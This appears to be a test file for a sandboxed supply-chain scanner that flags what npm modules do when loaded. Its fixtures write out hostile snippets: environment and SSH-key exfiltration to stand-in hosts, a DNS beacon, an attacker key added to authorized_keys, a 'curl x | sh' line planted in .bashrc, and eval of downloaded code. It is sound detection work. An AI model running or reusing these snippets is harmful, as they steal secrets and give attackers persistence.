// Top-level runs in the sandbox: what a module does when required, timers included, turned into
// findings by canary provenance. Config read and kept local is quiet; exfiltration, downloaded
// code, dangerous processes and persistence writes are reported on their lines.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { loadSandbox } = require('../../../server/dist/external/sandbox/runner.js');
const { runModuleTopLevel } = require('../../../server/dist/external/sandbox/module-run.js');
const { loadFindings } = require('../../../server/dist/core/supply/load-findings.js');
const { findCanaries } = require('../../../server/dist/core/supply/canaries.js');

async function load(text) {
  const trace = await runModuleTopLevel('/pkg/index.js', text);
  return loadFindings(trace, text);
}
const lineOf = (text, offset) => text.slice(0, offset).split('\n').length;

test.before(() => loadSandbox());

test('the environment and host name sent base64-encoded at load are exfiltration, with the flow', async () => {
  const text = `const https = require('https');
const os = require('os');
const data = JSON.stringify({ env: process.env, host: os.hostname() });
https.request({ hostname: 'exfil.example-collector.net', method: 'POST' }).end(Buffer.from(data).toString('base64'));
module.exports = () => 1;`;
  const f = (await load(text)).filter((x) => x.ruleId === 'load-exfiltration');
  assert.equal(f.length, 1);
  assert.equal(lineOf(text, f[0].span.start), 4);
  assert.match(f[0].message, /environment variables \(DATABASE_URL/);
  assert.match(f[0].message, /os\.hostname\(\)/);
  assert.match(f[0].message, /base64/);
  assert.ok(f[0].flow.length >= 2 && /reads/.test(f[0].flow[0].message));
});

test('a setTimeout of 90 s and a 12-hour setInterval run on the virtual clock', async () => {
  const f = await load(`const fs = require('fs'), os = require('os');
setTimeout(() => {
  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
  fetch('https://drop.example/k', { method: 'POST', body: key });
}, 90000);
setInterval(() => require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.t.example', () => {}), 12 * 3600 * 1000);`);
  const ex = f.filter((x) => x.ruleId === 'load-exfiltration');
  assert.ok(ex.some((x) => /~\/\.ssh\/id_rsa/.test(x.message)), 'the key read after 90 s was seen leaving');
  assert.ok(ex.some((x) => /DNS/.test(x.message) && /hex/.test(x.message)), 'the interval\'s DNS beacon was seen');
});

test('configuration read from the environment and kept local is not reported', async () => {
  const f = await load(`const { Pool } = require('pg');
const pool = new Pool({ connectionString: process.env.DATABASE_URL, max: Number(process.env.PG_MAX || 10) });
const level = process.env.LOG_LEVEL || 'info';
if (process.env.TOOL_TELEMETRY === '1') require('https').request({ hostname: 't.tool.example' }).end('{}');
module.exports = { pool, level };`);
  assert.deepEqual(f, []);
});

test('a logger creating its folder is not a sensitive write; planting an SSH key is', async () => {
  assert.deepEqual(await load(`const fs = require('fs'); fs.mkdirSync('logs', { recursive: true }); fs.appendFileSync('logs/app.log', 'start\\n');`), []);
  const f = await load(`const fs = require('fs'), os = require('os');
fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker');
fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh');`);
  assert.deepEqual(f.map((x) => x.ruleId), ['load-sensitive-write', 'load-sensitive-write']);
  assert.match(f[0].message, /~\/\.ssh\/authorized_keys/);
});

test('downloaded code run through eval at load is remote code', async () => {
  const f = await load(`require('https').get('https://paste.example/raw/x', (r) => { let c = ''; r.on('data', (d) => { c += d; }); r.on('end', () => eval(c)); });`);
  assert.ok(f.some((x) => x.ruleId === 'load-remote-code' && /eval/.test(x.message)));
});

test('a silenced, detached process at load is remote code; git rev-parse whose output is used is not', async () => {
  const f = await load(`const { spawn } = require('child_process'); spawn('/home/x/.bun/bin/bun', ['p.js'], { detached: true, stdio: 'ignore' }).unref();`);
  assert.ok(f.some((x) => x.ruleId === 'load-remote-code' && /detached/.test(x.message)));
  assert.deepEqual(await load(`const c = require('child_process').execSync('git rev-parse HEAD', { encoding: 'utf8' }).trim(); module.exports = c;`), []);
});

test('canaries are found through layered base64, hex split across DNS labels, URL encoding and reversal', () => {
  const b64 = (s) => Buffer.from(s).toString('base64');
  assert.deepEqual(findCanaries(b64(b64(b64('{"t":"orbit-env-NPM_TOKEN"}')))).map((h) => h.source), ['process.env.NPM_TOKEN']);
  const hex = Buffer.from('orbit-host:/app').toString('hex');
  assert.deepEqual(findCanaries(`dns:0.${hex.slice(0, 10)}.${hex.slice(10)}.x.example`).map((h) => h.source), ['os.hostname()']);
  assert.deepEqual(findCanaries(encodeURIComponent('{"k":"orbit-env-AWS_SECRET_ACCESS_KEY"}')).map((h) => h.source), ['process.env.AWS_SECRET_ACCESS_KEY']);
  assert.deepEqual(findCanaries([...'orbit-env-JWT_SECRET'].reverse().join('')).map((h) => h.source), ['process.env.JWT_SECRET']);
  assert.deepEqual(findCanaries('{"platform":"linux","version":"1.0.0"}'), []);
});
